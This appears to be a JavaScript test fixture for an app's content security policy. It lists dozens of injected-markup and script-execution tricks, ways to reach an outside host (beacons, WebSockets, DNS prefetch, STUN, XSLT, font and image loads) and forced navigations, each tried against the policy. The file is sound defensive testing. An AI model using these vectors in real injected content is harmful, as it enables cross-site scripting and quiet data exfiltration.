// What injected markup and injected script can try: to run code of their own, to send something to
// another host, or to make the window leave the page. The test runs this in the app's window, where
// no attack may succeed, and in a browser without any policy, where each must succeed except those
// called idle: an attack that succeeds nowhere would prove nothing.
//
// Each attack gets the address of a host that no other attack uses. Code that runs calls `ran`.
(() => {
  const ran = new Set();
  window.ran = (name) => ran.add(name);
  addEventListener("message", ({ data }) => data?.ran && ran.add(data.ran));

  const add = (tag, attributes = {}, parent = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const markup = (html) => {
    const element = add("div");
    element.innerHTML = html;
    return element.firstElementChild;
  };
  const style = (text) => add("style").append(text);
  const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
  const js = (text) => blob(text, "text/javascript");
  const data = (text, type) => `data:${type},${encodeURIComponent(text)}`;
  // Reports that the attack's code ran, wherever it runs: in the page, in a frame, in another
  // window.
  const code = (name) =>
    `(self.ran ?? ((ran) => (parent !== self ? parent : opener).postMessage({ ran }, '*')))('${name}')`;
  const html = (name) => `<script>${code(name)}</script>`;
  // A worker has no page whose function it could call.
  const worker = (Kind, source, name) => {
    const started = new Kind(source);
    (started.port ?? started).onmessage = () => window.ran(name);
  };
  const say = "self.onconnect = ({ ports }) => ports[0].postMessage(1); self.postMessage?.(1)";
  const blank = () => add("iframe").contentWindow;
  const link = (attributes) => add("a", attributes);
  // An element that the test clicks, since a browser opens a window only after a click.
  const bait = (element) => {
    element.id = "bait";
    element.textContent = "bait";
    element.style.cssText = "position: fixed; inset: 0; z-index: 9999; background: white";
  };
  // Tries again and again for two seconds, each time with another name of the same host: an engine
  // looks up no name twice, and WebKit looks up none in its first second.
  const again = (to, ask) => {
    const timer = setInterval(() => {
      const time = Math.round(performance.now());
      ask(to.replace(/\/\/(?=host)/, `//at${time}.`));
    }, 150);
    setTimeout(() => clearInterval(timer), 2000);
  };
  const lookUp = (href, parent) => add("link", { rel: "dns-prefetch", href }, parent);
  const xml = (text) => new DOMParser().parseFromString(text, "text/xml");
  const GeneratorFunction = Object.getPrototypeOf(function* () {}).constructor;
  const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;

  const running = {
    "inline script": (name) => add("script").append(code(name)),
    "inline module": (name) => add("script", { type: "module" }).append(code(name)),
    "onerror of an image": (name) => markup(`<img src="x:" onerror="${code(name)}">`),
    "onload of a style": (name) => markup(`<style onload="${code(name)}">p {}</style>`),
    "ontoggle of details": (name) => markup(`<details open ontoggle="${code(name)}">`),
    onclick: (name) => markup(`<button onclick="${code(name)}">`).click(),
    "onclick set later": (name) => add("button", { onclick: code(name) }).click(),
    "javascript: link": (name) => link({ href: `javascript:${code(name)}` }).click(),
    "javascript: address": (name) => {
      location.href = `javascript:${code(name)}`;
    },
    "javascript: frame": (name) => add("iframe", { src: `javascript:${code(name)}` }),
    "javascript: form": (name) => add("form", { action: `javascript:${code(name)}` }).submit(),
    eval: (name) => window.eval(code(name)),
    "new Function": (name) => new Function(code(name))(),
    "generator function": (name) => new GeneratorFunction(code(name))().next(),
    "async function": (name) => new AsyncFunction(code(name))(),
    "setTimeout of a text": (name) => setTimeout(code(name)),
    "setInterval of a text": (name) => setInterval(code(name), 50),
    "eval in a frame": (name) => blank().eval(code(name)),
    "inline script in a frame": (name) => {
      const { document } = blank();
      add("script", {}, document.body).textContent = code(name);
    },
    "data: script": (name) => add("script", { src: data(code(name), "text/javascript") }),
    "blob: script": (name) => add("script", { src: js(code(name)) }),
    "data: import": (name) => import(data(code(name), "text/javascript")),
    "blob: import": (name) => import(js(code(name))),
    "data: worker": (name) => worker(Worker, data(say, "text/javascript"), name),
    "blob: worker": (name) => worker(Worker, js(say), name),
    "blob: shared worker": (name) => worker(SharedWorker, js(say), name),
    "frame with a document": (name) => add("iframe", { srcdoc: html(name) }),
    "data: frame": (name) => add("iframe", { src: data(html(name), "text/html") }),
    "blob: frame": (name) => add("iframe", { src: blob(html(name), "text/html") }),
    "data: object": (name) => add("object", { data: data(html(name), "text/html") }),
    "blob: embed": (name) =>
      add("embed", { src: blob(html(name), "text/html"), type: "text/html" }),
    "blob: page": (name) => location.assign(blob(html(name), "text/html")),
    "script in a window of its own": (name) => {
      bait(add("button"));
      document.getElementById("bait").onclick = () => {
        add("script", {}, window.open("about:blank").document.body).textContent = code(name);
      };
    },
  };

  const speaking = {
    "script elsewhere": (to) => add("script", { src: `${to}/x.js` }),
    "module elsewhere": (to) => add("script", { type: "module", src: `${to}/x.js` }),
    "import elsewhere": (to) => import(`${to}/x.js`),
    fetch: (to) => fetch(to, { mode: "no-cors" }),
    "fetch that outlives the page": (to) =>
      fetch(to, { method: "POST", body: "x", mode: "no-cors", keepalive: true }),
    "fetch in a frame": (to) => blank().fetch(to, { mode: "no-cors" }),
    XMLHttpRequest: (to) => {
      const request = new XMLHttpRequest();
      request.open("POST", to);
      request.send("x");
    },
    WebSocket: (to) => new WebSocket(to.replace("http", "ws")),
    "WebSocket in a frame": (to) => new (blank().WebSocket)(to.replace("http", "ws")),
    EventSource: (to) => new EventSource(to),
    beacon: (to) => navigator.sendBeacon(to, "x"),
    "import of a worker": (to) => worker(Worker, js(`importScripts("${to}/x.js")`)),
    "fetch of a worker": (to) => worker(Worker, js(`fetch("${to}", { mode: "no-cors" })`)),
    "worklet elsewhere": (to) =>
      new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(`${to}/x.js`),
    image: (to) => {
      new Image().src = `${to}/x.png`;
    },
    "image in a frame": (to) => add("img", { src: `${to}/x.png` }, blank().document.body),
    "image of a set": (to) => markup(`<picture><source srcset="${to}/x.png"><img></picture>`),
    "image of a field": (to) => add("input", { type: "image", src: `${to}/x.png` }),
    "image in a drawing": (to) =>
      markup(`<svg><image href="${to}/x.png" width="9" height="9"/></svg>`),
    "image under another base": (to) => {
      add("base", { href: to }, document.head);
      const image = new Image();
      image.src = "x.png";
      if (!image.src.startsWith(to)) throw new Error("the base stays");
    },
    "background image": (to) => {
      add("p", { style: `background: url(${to}/x.png)` }).append("x");
    },
    "imported style": (to) => style(`@import url(${to}/x.css);`),
    "style elsewhere": (to) => add("link", { rel: "stylesheet", href: `${to}/x.css` }),
    font: (to) => {
      style(`@font-face { font-family: elsewhere; src: url(${to}/x.woff2); }`);
      add("p", { style: "font-family: elsewhere" }).append("x");
    },
    video: (to) => add("video", { src: `${to}/x.mp4`, preload: "auto" }),
    audio: (to) => add("audio", { src: `${to}/x.mp3`, preload: "auto" }),
    "poster of a video": (to) => add("video", { poster: `${to}/x.png` }),
    "captions of a video": (to) => {
      const video = markup(`<video crossorigin><track default src="${to}/x.vtt"></video>`);
      video.textTracks[0].mode = "showing";
    },
    object: (to) => add("object", { data: `${to}/x.html`, type: "text/html" }),
    embed: (to) => add("embed", { src: `${to}/x.html`, type: "text/html" }),
    frame: (to) => add("iframe", { src: `${to}/x.html` }),
    preconnect: (to) => add("link", { rel: "preconnect", href: to }, document.head),
    preload: (to) =>
      add("link", { rel: "preload", as: "fetch", href: to, crossorigin: "" }, document.head),
    "preload of a module": (to) =>
      add("link", { rel: "modulepreload", href: `${to}/x.js` }, document.head),
  };

  // These make a lookup at the name server and open no connection.
  const asking = {
    "lookup of a host": (to) => again(to, (to) => lookUp(to, document.head)),
    "lookup by markup": (to) => again(to, (to) => markup(`<link rel="dns-prefetch" href="${to}">`)),
    "lookup in a frame": (to) => again(to, (to) => lookUp(to, blank().document.head)),
    "lookup without a scheme": (to) =>
      again(to, (to) => lookUp(to.replace("http:", ""), document.head)),
  };

  // This version of the engine ignores these everywhere. Other versions may not.
  const idle = {
    "lookup of a link": (to) => {
      add("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }, document.head);
      again(to, (to) => link({ href: to }));
    },
    "peer connection": (to) => {
      const { hostname } = new URL(to);
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${hostname}:3478` }] });
      peer.createDataChannel("x");
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
    WebTransport: (to) => new WebTransport(to.replace("http:", "https:")),
    "speculation rules": (to) => {
      const urls = [`${to}/x.html`];
      const rules = JSON.stringify({ prefetch: [{ source: "list", urls }] });
      add("script", { type: "speculationrules" }).append(rules);
    },
    "icon of the page": (to) => add("link", { rel: "icon", href: `${to}/x.png` }, document.head),
    "manifest of an app": (to) =>
      add("link", { rel: "manifest", href: `${to}/x.json` }, document.head),
    "report of a violation": (to) => {
      const content = `img-src 'none'; report-uri ${to}/x; report-to ${to}/x`;
      add("meta", { "http-equiv": "Content-Security-Policy", content }, document.head);
      new Image().src = "/x.png";
    },
    "definition of a document type": (to) => xml(`<!DOCTYPE x SYSTEM "${to}/x.dtd"><x/>`),
    "document of a transformation": (to) => {
      const processor = new XSLTProcessor();
      const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
        <xsl:template match="/"><x><xsl:copy-of select="document('${to}/x.xml')"/></x></xsl:template>
        </xsl:stylesheet>`;
      processor.importStylesheet(xml(sheet));
      processor.transformToFragment(xml("<x/>"), document);
    },
    prefetch: (to) => add("link", { rel: "prefetch", href: to }, document.head),
    "part of a drawing": (to) => markup(`<svg><use href="${to}/x.svg#x"/></svg>`),
  };

  const leading = {
    address: (to) => {
      location.href = to;
    },
    "address assigned": (to) => location.assign(to),
    "address replaced": (to) => location.replace(to),
    "address of a frame": (to) => {
      blank().location = to;
    },
    refresh: (to) =>
      add("meta", { "http-equiv": "refresh", content: `0; url=${to}` }, document.head),
    link: (to) => link({ href: to }).click(),
    "link with a ping": (to) => link({ href: "#", ping: to }).click(),
    "form that asks": (to) => add("form", { action: to }).submit(),
    "form that posts": (to) => add("form", { action: to, method: "post" }).submit(),
    "form into a frame": (to) => {
      add("iframe", { name: "inner" });
      add("form", { action: to, method: "post", target: "inner" }).submit();
    },
    "link that a person clicks": (to) => bait(link({ href: to })),
    "link to a new window": (to) => bait(link({ href: to, target: "_blank" })),
    "link to a file": (to) => bait(link({ href: `${to}/x.bin`, download: "x.bin" })),
    "window of its own": (to) => {
      bait(add("button"));
      document.getElementById("bait").onclick = () => window.open(to);
    },
    "form into a new window": (to) => {
      const form = add("form", { action: to, target: "_blank" });
      bait(add("button", { type: "submit" }, form));
    },
  };

  window.attacks = {
    running: Object.keys(running),
    speaking: Object.keys(speaking),
    asking: Object.keys(asking),
    leading: Object.keys(leading),
    idle: Object.keys(idle),
    ran: () => [...ran],
    // Runs the attack with each of the addresses. Returns whether there is now an element for a
    // user to click, which can only belong to the last one.
    async begin(name, addresses) {
      document.getElementById("bait")?.remove();
      const reaching = { ...speaking, ...asking, ...leading, ...idle };
      const tries = running[name]
        ? [() => running[name](name)]
        : addresses.map((to) => () => reaching[name](to));
      for (const attempt of tries) {
        try {
          await attempt();
        } catch {
          // Refused with an exception, which is as good as any other refusal.
        }
      }
      return document.getElementById("bait") !== null;
    },
  };
})();
